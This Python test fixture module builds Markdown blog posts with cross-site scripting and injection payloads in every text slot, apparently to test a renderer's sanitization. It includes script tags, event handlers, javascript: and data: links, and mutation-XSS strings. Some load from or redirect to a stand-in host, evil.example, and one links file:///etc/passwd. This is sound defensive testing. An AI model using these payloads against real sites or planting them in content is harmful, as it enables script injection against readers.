"""Posts that attack whoever shows them: each attack as a reader's browser would fall for it, put wherever a post has text.

What an attack does when it works is always one of these: it calls or sets ``__pwned``, it asks ``evil.example`` for
something, or it lies upon the page. All three are seen by the checks of every page.
"""

from __future__ import annotations

import json
from typing import Final

EVIL: Final = "https://evil.example/x"

SCRIPTS: Final = {
    "script": "<script>__pwned = 1</script>",
    "script, odd case": "<sCrIpT/x>__pwned = 1</ScRiPt >",
    "script in a script": "<scr<script>ipt>__pwned = 1</scr</script>ipt>",
    "script from elsewhere": f"<script src={EVIL}.js></script>",
    "end of a script": "</script><script>__pwned = 1</script>",
    "end of a comment": "--><script>__pwned = 1</script><!--",
    "comment that opens a script": "<!--<script>__pwned = 1",
    "comment without an end": "<!-- <b title='",
    "character data": "]]><script>__pwned = 1</script><![CDATA[",
    "end of the title": "</title><script>__pwned = 1</script>",
    "end of the style": "</style><script>__pwned = 1</script>",
    "end of a text area": "</textarea></select></noscript></template><script>__pwned = 1</script>",
    "end of everything": "</main></body></html><script>__pwned = 1</script>",
    "end of a double quote": '"><script>__pwned = 1</script>',
    "end of a single quote": "'><script>__pwned = 1</script>",
    "end of a string": "\\\"';__pwned = 1;//\\",
    "escaped twice": "&lt;script&gt;__pwned = 1&lt;/script&gt; &amp;lt;script&amp;gt;",
    "escaped as JSON": "\\u003cscript\\u003e__pwned = 1\\u003c/script\\u003e",
}

HANDLERS: Final = {
    "image with a handler": "<img src=x onerror=__pwned(1)>",
    "drawing with a handler": "<svg onload=__pwned(1)><animate onbegin=__pwned(1) attributeName=x dur=1s></svg>",
    "script of a drawing": "<svg><script>__pwned = 1</script></svg>",
    "details with a handler": "<details open ontoggle=__pwned(1)><summary>x</summary></details>",
    "field with a handler": "<input autofocus onfocus=__pwned(1)>",
    "film with a handler": f"<video poster={EVIL}.png><source onerror=__pwned(1) src={EVIL}.mp4></video>",
    "text that runs": "<marquee onstart=__pwned(1)>x</marquee>",
    "attribute that goes on": '" onmouseover="__pwned(1)" autofocus onfocus="__pwned(1)" x="',
    "quoted attribute that goes on": "' onmouseover='__pwned(1)' autofocus onfocus='__pwned(1)' x='",
    "attributes of kramdown": '{: onclick="__pwned(1)" style="position:fixed;inset:0"}',
    "attributes of a heading": '{#x onclick="__pwned(1)" style="position:fixed;inset:0"}',
}

LINKS: Final = {
    "javascript": "[x](javascript:__pwned(1))",
    "javascript, odd case": "[x](JaVaScRiPt:__pwned(1))",
    "javascript as entities": "[x](java&#115;cript&colon;__pwned(1))",
    "javascript with a tab": "[x](<java\tscript:__pwned(1)>) [x](java&Tab;script:__pwned(1)) [x](java&NewLine;script:__pwned(1))",
    "javascript behind control characters": "[x](\x01\x0bjavascript:__pwned(1)) [x](&#1;javascript:__pwned(1))",
    "javascript in percents": "[x](javascript%3A__pwned(1)) [x](%6Aavascript:__pwned(1))",
    "javascript in brackets": "<javascript:__pwned(1)>",
    "javascript by reference": "[x][evil]\n\n[evil]: javascript:__pwned(1) 'x'",
    "javascript of an anchor": "<a href=' javascript:__pwned(1)'>x</a>",
    "javascript of an image": "![x](javascript:__pwned(1)) [![x](y)](javascript:__pwned(1))",
    "javascript inside another address": "[x](view-source:javascript:__pwned(1)) [x](jar:javascript:__pwned(1)!/)",
    "vbscript": "[x](vbscript:__pwned(1)) [x](livescript:__pwned(1))",
    "page in an address": "[x](data:text/html,<script>__pwned=1</script>) [x](DATA:text/html;base64,PHNjcmlwdD4=)",
    "drawing in an address": "![x](data:image/svg+xml,<svg onload=__pwned(1)>)",
    "file": "[x](file:///etc/passwd) ![x](file:///etc/passwd)",
    "address without a scheme": "[x](//evil.example/x) ![x](//evil.example/x.png)",
    "image from elsewhere": f"![x]({EVIL}.png) <img src={EVIL}.png srcset='{EVIL}.png 2x'>",
    "broken percents": "[x](#%) [x](#%E0%A4%A) [x](https://a.example/%) ![x](#%zz)",
    "quote in an address": '[x](https://a.example/"onmouseover="__pwned(1)) [x](https://a.example/ \'"onfocus="__pwned(1)\')',
    "quote in a name": '![" onerror="__pwned(1)](x.png) ["onfocus="__pwned(1)](#y "\' onclick=\'__pwned(1)")',
}

STYLES: Final = {
    "style": "<style>* { display: none !important }</style>",
    "style that asks": f"<style>@import '{EVIL}.css'; body {{ background: url({EVIL}.png) }}</style>",
    "style of an element": f"<div style='position:fixed;inset:0;background:url({EVIL}.png)'>x</div>",
    "style with a program": "<p style='x:expression(__pwned(1));behavior:url(x.htc)'>x</p>",
    "sheet of styles": f"<link rel=stylesheet href={EVIL}.css><link rel=preload as=image href={EVIL}.png>",
    "words of the page's own style": '<div class="skip top unseen" id="data" hidden>x</div>',
}

ELEMENTS: Final = {
    "frame": f"<iframe src={EVIL}></iframe>",
    "frame that holds a page": "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "object": f"<object data={EVIL}></object><embed src={EVIL}>",
    "form": f"<form action={EVIL}><input name=q autofocus><button formaction=javascript:__pwned(1)>x</button></form>",
    "base": "<base href=https://evil.example/ target=_blank>",
    "way out": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "formula": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__pwned(1)&gt;'>",
    "no script": "<noscript><p title='</noscript><img src=x onerror=__pwned(1)>'></noscript>",
    "drawing that ends early": "<svg></p><style><a id='</style><img src=1 onerror=__pwned(1)>'>",
    "template": "<template shadowrootmode=open><script>__pwned = 1</script></template><plaintext>",
    "names that the page's scripts use": "<a id=data name=data></a><img name=getElementById><form name=body></form>",
}

WORDS: Final = {
    "template words": "{{7*7}} {% raw %} {{ page.__class__.__mro__ }} {# x #} ${__pwned(1)} <%= 7*7 %> #{7*7}",
    "names of every object": "__proto__ constructor toString hasOwnProperty",
    "percents and braces": "%s %(x)s {0} {title} $1 $& \\1",
    "null": "a\x00b <\x00script>__pwned = 1</script>",
    "control characters": "a\x1b]8;;https://evil.example\x1b\\b\x07\x08\x0c\x85\x9b",
    "overrides": "\u202egnirts\u202d \u2066\u2067\u2068 unbalanced \u200f\u061c",
    "separators": "a\u2028b\u2029c",
    "invisible": "a\u200b\u200c\u200d\u2060\ufeff\u00adb\U000e0041",
    "marks upon marks": ("Z" + "\u0310\u0489" * 10) * 20,
    "deep quotes": "> " * 120 + "x",
    "deep brackets": "[" * 500 + "*" * 500,
}

SORTS: Final = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "links": LINKS,
    "styles": STYLES,
    "elements": ELEMENTS,
    "words": WORDS,
}
ATTACKS: Final = {name: attack for attacks in SORTS.values() for name, attack in attacks.items()}

NAMES: Final = ("data", "main", "theme", "filters", "outline", "help", "__proto__", "constructor", "body", "location")
"""Headings whose anchors are names that a page could use for itself."""


def old_post(attack: str) -> str:
    """A post with an attack wherever text can stand; in :func:`new_post` all of it has gone, come or changed."""
    line = " ".join(attack.split("\n"))
    return f"""---
title: {json.dumps(f"Post {line}")}
note: {json.dumps(line)}
---

# Post {line}

Opening words.

## Kept {line}

Words {line} that are edited.

- item {line} one
- item two
- item three {line} is edited here

| name | what it is |
| --- | --- |
| row | {line} before |
| stays | as it is |

## Gone {line}

{attack}

Last words of it.
"""


def new_post(attack: str) -> str:
    line = " ".join(attack.split("\n"))
    return f"""---
title: {json.dumps(f"Post {line}")}
note: {json.dumps(f"new {line}")}
---

# Post {line}

Opening words.

## Kept {line}

Words {line} that have been edited.

- item two
- item three {line} was edited there
- item {line} four

| name | what it is |
| --- | --- |
| row | {line} after |
| stays | as it is |
| new {line} | {line} |

## Come {line}

{attack}

First words of it.

```html
{attack}
```

    {line}
"""


def long_post(word: str) -> str:
    """A post with a word in each place that has a line of its own, and some text beside it."""
    stays = "".join(f"Paragraph {number} stays as it is.\n\n" for number in range(20))
    return f"# Long\n\n{stays}# Words\n\n## {word}\n\nA {word}.\n\n- {word}\n\n| {word} | b |\n| - | - |\n| c | {word} |\n\n    {word}\n"


def named_post(*extra: str) -> str:
    """A post whose headings are :data:`NAMES`."""
    return "# Names\n\n" + "".join(f"## {name}\n\nWords of {name}.\n\n" for name in (*NAMES, *extra))
